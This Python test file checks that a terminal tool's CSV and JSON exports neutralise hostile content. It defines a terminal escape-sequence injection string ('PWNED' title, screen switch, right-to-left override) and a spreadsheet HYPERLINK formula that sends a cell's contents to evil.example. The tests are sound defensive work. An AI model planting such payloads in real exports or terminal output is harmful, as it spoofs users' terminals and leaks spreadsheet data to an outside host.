"""Exports keep data exact yet never act on a terminal or a spreadsheet (issue 16, "Security" 1-2):
CSV header cells are neutralised like data cells; JSON escapes control characters by its format
(and reads back exactly); CSV to a terminal shows them escaped, to a file or pipe keeps them."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import pty
import subprocess
import sys
from pathlib import Path

from jstui.domain.export import frame, to_csv, to_json
from tests.engine.fixtures import demo_snapshot

RAW = "\x1b]2;PWNED\x07\x1b[?1049l\u202e\x9b"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ROOT = Path(__file__).resolve().parents[2]


def _hostile():
    snap = demo_snapshot()
    jobs = tuple(dataclasses.replace(j, failure_reason=f"boom {RAW}", hyperparameters={**j.hyperparameters, "opt": RAW},
                                     metrics={**j.metrics, FORMULA: 1.0})
                 for j in snap.training_jobs)
    return dataclasses.replace(snap, training_jobs=jobs, metric_names=(*snap.metric_names, FORMULA))


def test_csv_header_cells_are_neutralised_like_data_cells():
    out = to_csv(frame(_hostile(), "training-jobs"))
    header = next(csv.reader(io.StringIO(out)))
    assert "'" + FORMULA in header and FORMULA not in header
    assert "hp.opt" in header  # ordinary names untouched


def test_csv_to_a_file_keeps_control_characters_exact():
    rows = list(csv.DictReader(io.StringIO(to_csv(frame(_hostile(), "training-jobs")))))
    assert rows and all(r["hp.opt"] == RAW and r["failure_reason"] == f"boom {RAW}" for r in rows)


def test_csv_for_a_terminal_shows_them_escaped():
    out = to_csv(frame(_hostile(), "training-jobs"), for_terminal=True)
    assert not any(ch in out for ch in "\x1b\x07\u202e\x9b")
    assert "\\x1b]2;PWNED\\x07\\x1b[?1049l\\u202e\\x9b" in out


def test_json_escapes_them_and_reads_back_exactly():
    out = to_json(frame(_hostile(), "training-jobs"))
    assert not any(ch in out for ch in "\x1b\x07\u202e\x9b")
    records = json.loads(out)
    assert records and all(r["hp.opt"] == RAW and r[FORMULA] == 1.0 for r in records)


def test_export_csv_to_a_real_terminal_is_escaped_and_to_a_pipe_is_exact(tmp_path):
    """The command decides by isatty(stdout): run it under a pseudo-terminal, then with a pipe."""
    from jstui.engine.journal import Journal
    from jstui.engine.snapshot_codec import snapshot_to_json
    from tests.engine.conftest import write_study

    path = write_study(tmp_path, name="demo", models=1)
    home = tmp_path / "home"
    journal = Journal.open(home)
    journal.upsert_study("demo", path, "emulator", "us-east-1")
    journal.save_snapshot("demo", snapshot_to_json(dataclasses.replace(_hostile(), study="demo")))
    journal.close()
    argv = [sys.executable, "-m", "jstui", "--home", str(home), "--export", "csv", "--what", "training-jobs",
            "--offline", str(path)]
    piped = subprocess.run(argv, capture_output=True, cwd=ROOT, timeout=120)
    assert piped.returncode == 0, piped.stderr
    assert RAW.encode() in piped.stdout

    pid, fd = pty.fork()
    if pid == 0:  # the child: stdout is the terminal
        os.chdir(ROOT)
        os.execv(sys.executable, argv)
    shown = b""
    while True:
        try:
            chunk = os.read(fd, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        shown += chunk
    _, status = os.waitpid(pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0, shown[-2000:]
    assert b"\x1b" not in shown and b"\x07" not in shown
    assert b"\\x1b]2;PWNED\\x07" in shown
